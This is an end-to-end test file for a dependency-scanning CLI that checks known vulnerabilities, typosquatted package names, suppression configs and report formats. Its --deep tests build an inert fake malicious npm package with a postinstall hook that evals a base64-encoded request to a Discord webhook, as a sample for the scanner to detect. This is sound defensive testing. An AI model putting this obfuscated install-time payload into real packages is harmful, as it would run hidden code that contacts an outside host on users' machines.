/** End-to-end: `depwarden scan` on the built CLI, against a store made from the bundled snapshot. */
import { execFile, spawnSync } from "node:child_process";
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tmpTree } from "../test-helpers/tmp.js";

const repo = fileURLToPath(new URL("../..", import.meta.url));
const bin = join(repo, "dist/cli/main.js");
let dir: string;
let db: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "depwarden-scan-"));
  db = join(dir, "advisories.db");
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function run(args: string[], cwd = repo, env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [bin, ...args], {
    cwd,
    encoding: "utf8",
    env: { ...process.env, DEPWARDEN_DB: db, NO_COLOR: "1", ...env },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

function runAsync(
  args: string[],
  cwd = repo,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done) => {
    execFile(
      process.execPath,
      [bin, ...args],
      { cwd, env: { ...process.env, DEPWARDEN_DB: db, NO_COLOR: "1" } },
      (error, stdout, stderr) =>
        done({ code: error ? ((error.code as number | undefined) ?? 1) : 0, stdout, stderr }),
    );
  });
}

interface ScanJson {
  database: { source: string; advisories: number; updatedAt: string };
  findings: {
    type: string;
    id: string;
    aliases: string[];
    purl: string;
    severity: string;
    fixedIn: string | null;
    direct: boolean;
    suppressed?: { reason: string };
    expiredSuppression?: unknown;
    imitates?: { name: string; technique: string };
    rule?: string;
    location?: { packagePath: string; file: string; line: number; snippet: string; sha256: string };
    why?: string;
    accepted?: { reason: string };
    version: string | null;
    name: string;
  }[];
  summary: {
    findings: number;
    suppressed: number;
    malicious: number;
    typosquats: number;
    maliciousCode: number;
    installScripts: number;
    accepted: number;
  };
  typosquat?: { lists: { ecosystem: string; source: string; entries: number }[] };
  deep?: { packages: number; sourceFiles: number };
  warnings: { file: string; message: string }[];
}

const ids = (j: ScanJson) => j.findings.map((f) => `${f.purl} ${f.id}`).sort();

describe("depwarden scan", () => {
  it("finds the real vulnerabilities of the examples offline, from the bundled snapshot", () => {
    const r = run(["scan", "examples", "-f", "json"]);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.stdout) as ScanJson;
    expect(j.database.source).toBe("bundled");
    expect(j.database.advisories).toBe(3144);
    expect(ids(j)).toEqual([
      "pkg:npm/axios@0.21.1 GHSA-wf5p-g6vw-rhxx",
      "pkg:npm/follow-redirects@1.14.0 GHSA-jchw-25xp-jwwc",
      "pkg:npm/lodash@4.17.20 GHSA-35jh-r3h4-6jhm",
      "pkg:npm/minimist@1.2.5 GHSA-xvch-5gv4-984h",
      "pkg:npm/nanoid@3.1.20 GHSA-mwcw-c2x4-8c55",
      "pkg:pypi/certifi@2022.9.24 PYSEC-2022-42986",
      "pkg:pypi/certifi@2022.9.24 PYSEC-2023-135",
      "pkg:pypi/flask@2.2.2 PYSEC-2023-62",
      "pkg:pypi/idna@3.4 PYSEC-2024-60",
      "pkg:pypi/pyyaml@5.3.1 PYSEC-2021-142",
      "pkg:pypi/requests@2.28.1 PYSEC-2023-74",
      "pkg:pypi/setuptools@65.5.0 PYSEC-2022-43012",
      "pkg:pypi/urllib3@1.26.12 PYSEC-2023-192",
      "pkg:pypi/urllib3@1.26.12 PYSEC-2023-212",
      "pkg:pypi/werkzeug@2.2.2 PYSEC-2023-221",
      "pkg:pypi/werkzeug@2.2.2 PYSEC-2023-57",
      "pkg:pypi/werkzeug@2.2.2 PYSEC-2023-58",
    ]);
    const minimist = j.findings.find((f) => f.purl === "pkg:npm/minimist@1.2.5")!;
    expect(minimist).toMatchObject({
      severity: "critical",
      fixedIn: "1.2.6",
      direct: false,
      aliases: ["CVE-2021-44906"],
    });
    const flask = j.findings.find((f) => f.purl === "pkg:pypi/flask@2.2.2")!;
    expect(flask).toMatchObject({
      fixedIn: "2.2.5",
      direct: true,
      aliases: ["GHSA-m2qf-hxjv-5gpq", "CVE-2023-30861"],
    });
    // the bundled data is older than 7 days: said on stderr and in the JSON warnings
    expect(r.stderr).toMatch(/advisory data is \d+ days old/);
    expect(j.warnings.some((w) => /advisory data is \d+ days old/.test(w.message))).toBe(true);
  });

  it("the table groups by package and ends with a summary; the gate follows --fail-on", () => {
    const r = run(["scan", "examples/web-frontend", "--max-advisory-age", "100000d"]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^lodash 4\.17\.20 \(npm, direct\)/m);
    expect(r.stdout).toMatch(/^ {2}CRITICAL 9\.8 {2}GHSA-xvch-5gv4-984h \(CVE-2021-44906\)$/m);
    expect(r.stdout).toMatch(/fixed in 1\.2\.6/);
    expect(r.stdout).toMatch(/5 findings \(1 critical, 1 high, 3 medium\) in \d+ components checked/);
    expect(r.stderr).toBe("");
    expect(run(["scan", "examples/web-frontend", "--fail-on", "none"]).code).toBe(0);
    expect(run(["scan", "examples/web-frontend", "--fail-on", "critical"]).code).toBe(1);
    expect(run(["scan", "examples/web-frontend", "--fail-on", "severe"]).code).toBe(2);
    const age = run(["scan", "examples/web-frontend", "--max-advisory-age", "soon"]);
    expect(age.code).toBe(2);
    expect(age.stderr).toBe(
      'depwarden: --max-advisory-age: expected a duration such as 7d, 12h or 2w, got "soon"\n',
    );
  });

  it("a clean project passes", () => {
    const root = tmpTree({ "requirements.txt": "flask==3.1.0\n" });
    const r = run(["scan", root]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/No known vulnerabilities in 1 component checked/);
  });

  it("honours .depwarden.yaml ignores, and an expired one gates again", () => {
    const root = mkdtempSync(join(dir, "proj-"));
    cpSync(join(repo, "examples/web-frontend"), root, { recursive: true });
    const config = (expires: string) =>
      `ignore:\n  - id: CVE-2021-44906\n    package: minimist\n    reason: CLI parsing of our own flags only\n    expires: ${expires}\n    approvedBy: sec-team\n`;
    writeFileSync(join(root, ".depwarden.yaml"), config("2999-12-31"));
    const ok = run(["scan", root, "--fail-on", "critical", "-f", "json"]);
    expect(ok.code).toBe(0);
    const j = JSON.parse(ok.stdout) as ScanJson;
    expect(j.findings.find((f) => f.id === "GHSA-xvch-5gv4-984h")?.suppressed?.reason).toBe(
      "CLI parsing of our own flags only",
    );
    expect(j.summary.suppressed).toBe(1);

    writeFileSync(join(root, ".depwarden.yaml"), config("2020-01-31"));
    const expired = run(["scan", root, "--fail-on", "critical", "-f", "json"]);
    expect(expired.code).toBe(1);
    expect(expired.stderr).toMatch(
      /\.depwarden\.yaml: 2: ignore of CVE-2021-44906 for minimist expired on 2020-01-31/,
    );
    const e = JSON.parse(expired.stdout) as ScanJson;
    expect(e.findings.find((f) => f.id === "GHSA-xvch-5gv4-984h")?.expiredSuppression).toBeDefined();

    writeFileSync(
      join(root, ".depwarden.yaml"),
      "ignore:\n  - id: CVE-2021-44906\n    expires: 2030-01-01\n",
    );
    const bad = run(["scan", root]);
    expect(bad.code).toBe(2);
    expect(bad.stderr.trim().split("\n")).toHaveLength(1);
    expect(bad.stderr).toMatch(/\.depwarden\.yaml:2:5: ignore\[0\]\.reason:/);
  });

  it("writes every format, atomically with --output", () => {
    const out = join(dir, "report.sarif");
    expect(run(["scan", "examples", "-f", "sarif", "-o", out, "-q"]).code).toBe(1);
    const sarif = JSON.parse(readFileSync(out, "utf8")) as {
      version: string;
      runs: { results: unknown[] }[];
    };
    expect(sarif.version).toBe("2.1.0");
    expect(sarif.runs[0]?.results).toHaveLength(17);
    const md = run(["scan", "examples", "-f", "markdown", "-q"]);
    expect(md.stdout).toMatch(/^# depwarden scan/);
    const cdx = JSON.parse(run(["scan", "examples", "-f", "cyclonedx-json", "-q"]).stdout) as {
      vulnerabilities: unknown[];
      components: unknown[];
    };
    expect(cdx.vulnerabilities).toHaveLength(17);
    expect(cdx.components.length).toBeGreaterThan(30);
  });

  it("reports a known-malicious package as such, whatever its record says", () => {
    const mal = join(dir, "MAL-2099-1.json");
    writeFileSync(
      mal,
      JSON.stringify({
        id: "MAL-2099-1",
        modified: "2099-01-01T00:00:00Z",
        summary: "Malicious code in reqeusts (PyPI)",
        affected: [{ package: { ecosystem: "PyPI", name: "reqeusts" }, versions: ["1.0.0"] }],
        database_specific: { severity: "LOW" },
      }),
    );
    const malDb = join(dir, "mal.db");
    expect(run(["db", "import", mal, "--db", malDb, "-q"]).code).toBe(0);
    const purls = tmpTree({ "purls.txt": "pkg:pypi/reqeusts@1.0.0\n" });
    const r = run(["scan", "--purls", join(purls, "purls.txt"), "--db", malDb, "-f", "json", "-q"]);
    expect(r.code).toBe(1);
    const j = JSON.parse(r.stdout) as ScanJson;
    // known malicious first; the name is also a typosquat of requests
    expect(j.findings).toMatchObject([
      { type: "malicious-package", id: "MAL-2099-1", severity: "critical" },
      { type: "typosquat", id: "typosquat", imitates: { name: "requests" } },
    ]);
    expect(run(["scan", "--purls", join(purls, "purls.txt"), "--db", malDb, "-q"]).stdout).toMatch(
      /MALICIOUS {2}MAL-2099-1[\s\S]*known malicious package: remove it/,
    );
  });

  it("--online asks the OSV API (a loopback server here) and fails clearly when it cannot", async () => {
    const record = {
      id: "GHSA-xvch-5gv4-984h",
      modified: "2024-01-01T00:00:00Z",
      aliases: ["CVE-2021-44906"],
      summary: "Prototype Pollution in minimist",
      affected: [
        {
          package: { ecosystem: "npm", name: "minimist" },
          ranges: [
            {
              type: "ECOSYSTEM",
              events: [{ introduced: "0" }, { fixed: "0.2.4" }, { introduced: "1.0.0" }, { fixed: "1.2.6" }],
            },
          ],
        },
      ],
    };
    const seen: string[] = [];
    const server = createServer(async (req: IncomingMessage, res) => {
      let body = "";
      for await (const chunk of req) body += chunk;
      seen.push(`${req.method} ${req.url}`);
      res.setHeader("content-type", "application/json");
      if (req.url === "/v1/querybatch") {
        const q = JSON.parse(body) as { queries: { package: { name: string } }[] };
        res.end(
          JSON.stringify({
            results: q.queries.map((x) =>
              x.package.name === "minimist" ? { vulns: [{ id: record.id, modified: record.modified }] } : {},
            ),
          }),
        );
      } else if (req.url === `/v1/vulns/${record.id}`) res.end(JSON.stringify(record));
      else {
        res.statusCode = 404;
        res.end("{}");
      }
    });
    await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const r = await runAsync([
        "scan",
        "examples/web-frontend",
        "--online",
        "--online-url",
        url,
        "-f",
        "json",
      ]);
      expect(r.code).toBe(1);
      const j = JSON.parse(r.stdout) as ScanJson;
      expect(ids(j)).toEqual(["pkg:npm/minimist@1.2.5 GHSA-xvch-5gv4-984h"]);
      expect(j.database.source).toBe(url);
      expect(seen).toEqual(["POST /v1/querybatch", "GET /v1/vulns/GHSA-xvch-5gv4-984h"]);
    } finally {
      await new Promise((ok) => server.close(ok));
    }
    const down = await runAsync(["scan", "examples/web-frontend", "--online", "--online-url", url]);
    expect(down.code).toBe(2);
    expect(down.stdout).toBe("");
    expect(down.stderr).toMatch(/querybatch/);
  });

  it("a store that is not a database is a one-line error", () => {
    const bogus = join(dir, "bogus.db");
    writeFileSync(bogus, "not sqlite at all, just text ".repeat(200));
    const r = run(["scan", "examples/web-frontend", "--db", bogus]);
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(existsSync(bogus)).toBe(true);
  });
});

describe("depwarden scan: typosquats", () => {
  const purls = (text: string) => join(tmpTree({ "purls.txt": text }), "purls.txt");

  it("reports names that imitate a popular package, from any input, with or without a version", () => {
    const file = purls(
      "pkg:pypi/reqeusts@2.31.0\npkg:npm/lodahs\npkg:pypi/requests@2.32.3\npkg:npm/lodash@4.17.21\n",
    );
    const r = run(["scan", "--purls", file, "-f", "json", "-q"]);
    const j = JSON.parse(r.stdout) as ScanJson;
    const squats = j.findings.filter((f) => f.type === "typosquat");
    expect(squats.map((f) => [f.name, f.version, f.imitates?.name]).sort()).toEqual([
      ["lodahs", null, "lodash"],
      ["reqeusts", "2.31.0", "requests"],
    ]);
    expect(j.summary.typosquats).toBe(2);
    expect(j.typosquat?.lists.map((l) => [l.ecosystem, l.source])).toEqual([
      ["PyPI", "bundled"],
      ["npm", "bundled"],
    ]);
    expect(r.code).toBe(squats.some((f) => f.severity === "high" || f.severity === "critical") ? 1 : 0);
    const table = run(["scan", "--purls", file, "-q"]).stdout;
    expect(table).toMatch(/typosquat: imitates requests \(transposition\)/);
  });

  it("--no-typosquat turns the check off", () => {
    const file = purls("pkg:pypi/reqeusts@2.31.0\n");
    const r = run(["scan", "--purls", file, "--no-typosquat", "-f", "json", "-q"]);
    expect(r.code).toBe(0);
    const j = JSON.parse(r.stdout) as ScanJson;
    expect(j.findings).toEqual([]);
    expect(j.typosquat).toBeUndefined();
  });

  it("typosquat.allow in .depwarden.yaml and ignore entries with id: typosquat are honoured", () => {
    const root = tmpTree({
      "requirements.txt": "reqeusts==2.31.0\ncolourama==0.4.6\n",
      ".depwarden.yaml":
        "typosquat:\n  allow:\n    - reqeusts\nignore:\n  - id: typosquat\n    package: colourama\n    reason: reviewed\n    expires: 2999-12-31\n    approvedBy: sec\n",
    });
    const r = run(["scan", root, "-f", "json", "-q", "--fail-on", "low"]);
    const j = JSON.parse(r.stdout) as ScanJson;
    expect(j.findings.map((f) => [f.name, f.type, f.suppressed?.reason])).toEqual([
      ["colourama", "typosquat", "reviewed"],
    ]);
    expect(r.code).toBe(0);
  });

  it("uses the project's own popularity list; a bad one is a one-line error (exit 2)", () => {
    const root = tmpTree({
      "requirements.txt": "internal-toolz==1.0\n",
      "popular.txt": "# our own\ninternal-tools\n",
      ".depwarden.yaml": "typosquat:\n  popular:\n    PyPI: popular.txt\n",
    });
    const r = run(["scan", root, "-f", "json", "-q", "--fail-on", "none"]);
    const j = JSON.parse(r.stdout) as ScanJson;
    expect(j.typosquat?.lists).toEqual([
      { ecosystem: "PyPI", source: expect.stringMatching(/popular\.txt$/), entries: 1 },
    ]);
    writeFileSync(join(root, "popular.txt"), "name\trank\nrequests\tfirst\n");
    const bad = run(["scan", root]);
    expect(bad.code).toBe(2);
    expect(bad.stderr.trim().split("\n")).toHaveLength(1);
    expect(bad.stderr).toMatch(/popular\.txt: .*line 2/);
  });
});

describe("depwarden scan --deep", () => {
  /** An installed npm package shaped like a real stealer: inert data, never run or imported. */
  function project() {
    const payload = Buffer.from(
      "require('https').get('https://discord.com/api/webhooks/1234567890/abcdefABCDEF')",
    ).toString("base64");
    return tmpTree({
      "package.json": JSON.stringify({
        name: "app",
        version: "1.0.0",
        dependencies: { "evil-logger": "1.0.2" },
      }),
      "package-lock.json": JSON.stringify({
        name: "app",
        version: "1.0.0",
        lockfileVersion: 3,
        packages: {
          "": { name: "app", version: "1.0.0", dependencies: { "evil-logger": "1.0.2" } },
          "node_modules/evil-logger": { version: "1.0.2" },
        },
      }),
      "node_modules/evil-logger/package.json": JSON.stringify({
        name: "evil-logger",
        version: "1.0.2",
        main: "index.js",
        scripts: { postinstall: "node index.js" },
      }),
      "node_modules/evil-logger/index.js": `const p = "${payload}";\neval(Buffer.from(p, "base64").toString());\n`,
      "node_modules/plain/package.json": JSON.stringify({ name: "plain", version: "1.0.0" }),
      "node_modules/plain/index.js": "module.exports = (a, b) => a + b;\n",
    });
  }

  it("reports malicious code in installed packages, located in the package's file", () => {
    const root = project();
    const r = run(["scan", root, "--deep", "-f", "json"]);
    const j = JSON.parse(r.stdout) as ScanJson;
    expect(r.code).toBe(1);
    const code = j.findings.filter((f) => f.type === "malicious-code" || f.type === "install-script");
    const exec = code.find((f) => f.rule === "exec-obfuscated")!;
    expect(exec).toMatchObject({
      id: "exec-obfuscated",
      name: "evil-logger",
      purl: "pkg:npm/evil-logger@1.0.2",
      direct: true,
      severity: "critical",
      location: { file: "index.js", line: 2 },
    });
    expect(exec.location!.packagePath).toMatch(/node_modules\/evil-logger$/);
    expect(exec.location!.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(code.some((f) => f.type === "install-script")).toBe(true);
    expect(code.every((f) => f.name === "evil-logger")).toBe(true); // nothing in the plain package
    expect(j.deep?.packages).toBe(2);
    expect(j.summary.maliciousCode).toBeGreaterThanOrEqual(1);
    // without --deep: nothing of the sort
    const plain = JSON.parse(run(["scan", root, "-f", "json", "-q"]).stdout) as ScanJson;
    expect(plain.findings.filter((f) => f.rule)).toEqual([]);
    expect(plain.deep).toBeUndefined();
  });

  it("shows code findings with file:line, snippet and why in the table, and in every format", () => {
    const root = project();
    const table = run(["scan", root, "--deep", "-q"]);
    expect(table.stdout).toMatch(/^evil-logger 1\.0\.2 \(npm, direct\)/m);
    expect(table.stdout).toMatch(/CRITICAL {2}exec-obfuscated {2}index\.js:2/);
    expect(table.stdout).toMatch(/> eval\(Buffer\.from\(p, "base64"\)\.toString\(\)\);/);
    const sarif = JSON.parse(run(["scan", root, "--deep", "-f", "sarif", "-q"]).stdout) as {
      runs: {
        results: { ruleId: string; locations: { physicalLocation: { region: { startLine: number } } }[] }[];
      }[];
    };
    const exec = sarif.runs[0]!.results.find((x) => x.ruleId === "exec-obfuscated")!;
    expect(exec.locations[0]!.physicalLocation.region.startLine).toBe(2);
    expect(run(["scan", root, "--deep", "-f", "markdown", "-q"]).stdout).toMatch(/## Package contents/);
  });

  it("honours accept entries tied to the file's content; a changed file is flagged again", () => {
    const root = project();
    const first = JSON.parse(run(["scan", root, "--deep", "-f", "json", "-q"]).stdout) as ScanJson;
    const accepts = first.findings
      .filter((f) => f.rule)
      .map(
        (f) =>
          `  - package: evil-logger\n    rule: ${f.rule}\n    sha256: ${f.location!.sha256}\n    reason: reviewed sample\n    approvedBy: sec\n`,
      );
    writeFileSync(join(root, ".depwarden.yaml"), `accept:\n${[...new Set(accepts)].join("")}`);
    const ok = run(["scan", root, "--deep", "-f", "json", "-q"]);
    const j = JSON.parse(ok.stdout) as ScanJson;
    expect(j.findings.filter((f) => f.rule).every((f) => f.accepted?.reason === "reviewed sample")).toBe(
      true,
    );
    expect(j.summary.accepted).toBeGreaterThanOrEqual(2);
    expect(ok.code).toBe(0);
    writeFileSync(
      join(root, "node_modules/evil-logger/index.js"),
      `${readFileSync(join(root, "node_modules/evil-logger/index.js"), "utf8")}// changed\n`,
    );
    const again = run(["scan", root, "--deep", "-f", "json"]);
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/accept of exec-obfuscated for evil-logger matches no finding/);
  });
});
